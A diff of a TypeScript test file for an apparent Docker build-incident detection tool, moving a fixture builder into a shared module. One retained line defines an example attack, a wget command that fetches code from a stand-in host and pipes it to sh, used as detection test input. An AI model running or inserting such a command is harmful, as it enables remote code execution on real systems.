@@ -1,78 +1,10 @@
 import { describe, expect, it } from 'vitest';
-import type { ImageBuilds, Incidents } from '../../model/generated/tables.js';
+import { stored, type ToldBuild } from '../fixtures/stored.js';
 import { defaultSettings, type Settings } from '../settings.js';
 import { readSettings } from '../settings-file.js';
 import { proposeSettings, type Stored } from './propose.js';
 
-interface Told {
-  user?: string;
-  /** Command lines above the client, the executable first. */
-  above?: string[];
-  context?: string;
-  command?: string;
-  daemon?: string;
-  recent?: number;
-}
-
-const start = 1_795_341_600_000_000;
-
-function stored(n: number, told: Told): Stored {
-  const {
-    user = 'factory',
-    above = ['/usr/bin/make images'],
-    context = `/srv/factory/app${n}`,
-  } = told;
-  const chain = ['/usr/bin/docker build .', ...above].map((line, index) => ({
-    ProcessId: index + 1,
-    FileName: (line.split(' ')[0] ?? '').replace(/^.*\//, ''),
-    FolderPath: line.split(' ')[0] ?? '',
-    CommandLine: line,
-    AccountName: user,
-    CreationTime: start,
-  }));
-  const build: ImageBuilds = {
-    TimeGenerated: start + n,
-    BuildId: `b-${n}`,
-    Method: 'build',
-    AccountName: user,
-    ContextPath: context,
-    RequesterCommandLine: 'docker build .',
-    RequesterProcessChain: chain,
-    Baseline: { Recent: told.recent ?? 0 },
-    AdditionalFields: {
-      RequestTool: 'docker',
-      NoCache: true,
-      RequesterParentFileName: 'bash',
-      RequesterIsKnownTool: true,
-      DaemonConnections: [connection(told.daemon ?? '', 443)],
-    },
-  };
-  const steps = [
-    {
-      TimeGenerated: start + n,
-      BuildId: `b-${n}`,
-      StepId: 's',
-      StepIndex: 0,
-      Command: told.command ?? 'apk add curl',
-      Connections: [{ ...connection('', 80), RemoteIP: '203.0.113.9' }],
-    },
-  ];
-  const incident: Incidents = { TimeGenerated: start + n, IncidentId: `i-${n}`, BuildId: `b-${n}` };
-  return { incident, build, steps, alerts: [] };
-}
-
-const connection = (RemoteUrl: string, RemotePort: number) => ({
-  Time: start,
-  RemoteIP: '198.51.100.7',
-  RemotePort,
-  RemoteUrl,
-  Protocol: 'Tcp',
-  ActionType: 'ConnectionSuccess',
-  ProcessId: 1,
-  FileName: 'dockerd',
-});
-
-const several = (told: Told): Stored[] => [1, 2, 3].map((n) => stored(n, told));
+const several = (told: ToldBuild): Stored[] => [1, 2, 3].map((n) => stored(n, told));
 const attack = 'wget -qO- http://203.0.113.9/x | sh';
 const tuned = (all: Stored[], settings: Settings = defaultSettings) =>
   proposeSettings(all, settings, 2);
